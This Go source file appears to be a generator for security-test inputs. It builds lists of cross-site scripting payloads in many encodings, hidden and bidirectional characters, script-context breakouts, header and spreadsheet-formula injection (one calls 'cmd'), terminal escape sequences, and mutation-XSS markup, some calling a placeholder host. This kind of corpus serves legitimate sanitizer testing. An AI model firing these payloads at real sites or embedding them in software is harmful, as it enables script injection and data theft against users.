package vector

import (
	"fmt"
	"slices"
	"strings"
)

func encodings() []string {
	out := []string{
		`+ADw-script+AD4-alert(§)+ADw-/script+AD4-`, `+ADw-img src+AD0-x onerror+AD0-alert(§)+AD4-`, `&lt;script&gt;alert(§)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(§)`, `&amp;amp;lt;img src=//ELSEWHERE/§&amp;amp;gt;`,
		`&#60;script&#62;alert(§)&#60;/script&#62;`, `&#x3c;img src=x onerror=alert(§)&#x3e;`, `&#60img src=x onerror=alert(§)&#62`, `&LT;svg onload=alert(§)&GT;`, `%3Cscript%3Ealert(§)%3C/script%3E`, `%253Cscript%253Ealert(§)`,
		`\u003cscript\u003ealert(§)\u003c/script\u003e`, `\x3cimg src=x onerror=alert(§)\x3e`, `\74script\76alert(§)`, `＜script＞alert(§)＜/script＞`, `﹤img src=x onerror=alert(§)﹥`, `‹script›alert(§)‹/script›`,
		"\xc0\xbcscript\xc0\xbealert(§)\xc0\xbc/script\xc0\xbe", "\xe0\x80\xbcimg src=x onerror=alert(§)\xe0\x80\xbe", "\xf0\x80\x80\xbcsvg onload=alert(§)\xf0\x80\x80\xbe", "\x8escript\x9balert(§)", "<\x00s\x00c\x00r\x00i\x00p\x00t\x00>§",
		"\xff\xfe<\x00§", "\xef\xbb\xbf<script>alert(§)</script>", "\x1b$B<script>alert(§)</script>", "\x1b(J<img src=x onerror=alert(§)>", "~{<script>alert(§)~}", "§\xed\xa0\x80<b>", "§\xf4\x90\x80\x80<b>",
		`<ſcript>alert(§)</ſcript>`, `<ıframe src=//ELSEWHERE/§>`, `<ＳＣＲＩＰＴ>alert(§)</ＳＣＲＩＰＴ>`, `<scrıpt>alert(§)</scrıpt>`, `jſavascript:alert(§)`, `ʼonmouseover=alert(§)`, `＂onmouseover=alert(§)＂`,
	}
	for _, pad := range []int{1, 7, 40} {
		zeros := strings.Repeat("0", pad)
		out = append(out, "&#"+zeros+"60;script&#"+zeros+"62;alert(§)", "&#x"+zeros+"3c;img src=//ELSEWHERE/§&#x"+zeros+"3e;")
	}
	return out
}

// hidden are characters that turn, hide or glue what stands around them.
func hidden() []string {
	var out []string
	for _, r := range "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u2028\u2029\u180e\U000e0041\U000e007f\ufff9\u2061\u2064\ufe0f" {
		out = append(out, fmt.Sprintf("§ 25%c52 diplomats", r), fmt.Sprintf("<scr%cipt>alert(§)</script>", r))
	}
	for c := byte(0); c < 0x20; c++ {
		out = append(out, fmt.Sprintf("<img src=x %conerror=alert(§)>", c))
	}
	for _, c := range []rune{0x7f, 0x80, 0x85, 0x90, 0x98, 0x9b, 0x9c, 0x9d, 0x9f} {
		out = append(out, fmt.Sprintf("§ a%cb<script>alert(§)</script>", c))
	}
	return append(out, "§ e"+strings.Repeat("\u0301", 200), "§"+strings.Repeat("\u202e", 100)+"evil", "§ раураӏ.example", "§\ufffe<b>\uffff")
}

func scripts() []string {
	return []string{
		`';alert(§)//`, `";alert(§)//`, "`;alert(§)//", `\';alert(§)//`, `\\";alert(§)//`, `*/alert(§)/*`, `-alert(§)-`, `'-alert(§)-'`, `"-alert(§)-"`, `</script><script>alert(§)</script>`, `<!--<script>alert(§)`, `<\/script><img src=//ELSEWHERE/§>`,
		"\u2028alert(§)//", "\u2029alert(§)//", `"}alert(§){"`, `"],"role":"admin","x":["§`, `{"undo":"§","text":"<img src=x onerror=alert(§)>"}`, `event: reset§` + "\n" + `data: {"cases":["*"]}` + "\n\n", "§\ndata: <script>alert(§)</script>\n\n",
		`)]}',alert(§)`, `constructor[§]`, `window.name=alert(§)`, `import('//ELSEWHERE/§')`, `eval(atob('YWxlcnQoMSk='))//§`, `new Image().src='//ELSEWHERE/§'`, `document.cookie='nongrata=§'`, `\u0061lert(§)`, `setTimeout('alert(§)')`,
	}
}

// lines break out of headers, tables, marked-up text and terminals.
func lines() []string {
	return slices.Concat(
		each("§\r\n%s: x", "Set-Cookie", "Location", "Content-Type", "Content-Disposition", "Bcc", "Subject", "Content-Security-Policy", "Link"),
		each("%s§", "=1+1+", "+1+1-", "-1+1+", "@SUM(1+1)*", "\t=1+", "\r=1+", "=cmd|' /C calc'!A", `=HYPERLINK("https://ELSEWHERE/","x")&`, `=IMPORTXML("//ELSEWHERE/","//a")&`, `=WEBSERVICE("//ELSEWHERE/")&`, "＝1+", "＋1-", "－1+", "＠SUM(1)*", "%0A=1+", "\"\n=1+", ",=1+", ";=1+"),
		[]string{`§","=1+1","`, "§\"\r\n\"=1+1\",\"", `[x](javascript:alert(§))`, `![x](https://ELSEWHERE/§)`, `<https://ELSEWHERE/§>`, "§\n# heading\n---\n", "```\n§", `[x]: javascript:alert(§) "x"`, `|§|x|` + "\n|---|---|", `[[Category:§]]`, `<ref>§</ref>`,
			`*_~§~_*`, `<!channel> §`, `<@U§>`, `@everyone §`, `<https://ELSEWHERE/§|Approve>`, "BEGIN:VEVENT\r\nSUMMARY:§\r\nEND:VEVENT", "§\r\nATTENDEE:mailto:x@ELSEWHERE", `&lt;link href="//ELSEWHERE/§"/&gt;`, "§\n.\nQUIT\n", "§\x1a"},
		each("§\x1b%s", "[2J", "[31m", "[8m", "[1;1H", "[?1049h", "[200~", "[6n", "[>c", "]0;owned\x07", "]0;owned\x1b\\", "]52;c;b3duZWQ=\x07", "]8;;https://ELSEWHERE/\x07x\x1b]8;;\x07", "]1337;File=:AA==\x07", "P+q544e\x1b\\", "c", "#8", "(0", "_x\x1b\\", "^x\x1b\\", "X\x1b\\", "Ptmux;\x1b\x1b[2J\x1b\\"),
		each("§\u009b%s", "2J", "31m", "6n"), each("§\u009d%s\u009c", "0;owned", "52;c;aGk="), []string{"§\rover", "§\b\b\bover", "§\a\a", "§\v\f", "§\x0e\x0f", "§\x7f\x7f"})
}

// mutations are whole for one parser and something else for the next.
func mutations() []string {
	return []string{
		`<noscript><p title="</noscript><img src=x onerror=alert(§)>"></noscript>`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(§)>`, `<svg></p><style><a id="</style><img src=x onerror=alert(§)>">`,
		`<math><mi><style><!--</style><img src=x onerror=alert(§)>--></mi></math>`, `<table><td><svg><desc><td><title><img src=x onerror=alert(§)></title>`, `<svg><title><a href="</title><img src=x onerror=alert(§)>">`,
		`<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(§)>">`, `<p id='"><img src=x onerror=alert(§)>'>`, "<img alt=\"``onerror=alert(§)\" src=x>", `<listing>&lt;img src=x onerror=alert(§)&gt;</listing>`,
		`<xmp><p title="</xmp><svg onload=alert(§)>">`, `<select><template><img src=x onerror=alert(§)></template></select>`, `<svg><foreignObject><math><mi><svg><style><a id="</style><img src=x onerror=alert(§)>">`, `<a><b></a><script>alert(§)</b></script>`,
		`<div><![CDATA[</div><img src=x onerror=alert(§)>]]>`, `<option><style></option></select><img src=x onerror=alert(§)></style>`, `<iframe><!--</iframe><img src=x onerror=alert(§)>-->`, `<style><style/><img src=x onerror=alert(§)>`,
		`<textarea><img title="</textarea><img src=x onerror=alert(§)>">`, `<details><summary></details><img src=x onerror=alert(§)></summary>`, `<mglyph><malignmark><svg><mtext><style><path id="</style><img src=x onerror=alert(§)>">`,
		`<table><colgroup><img src=x onerror=alert(§)></table>`, `<ruby><rt><rtc><script>alert(§)</script>`, `<p><table><p><script>alert(§)</script></table>`,
	}
}
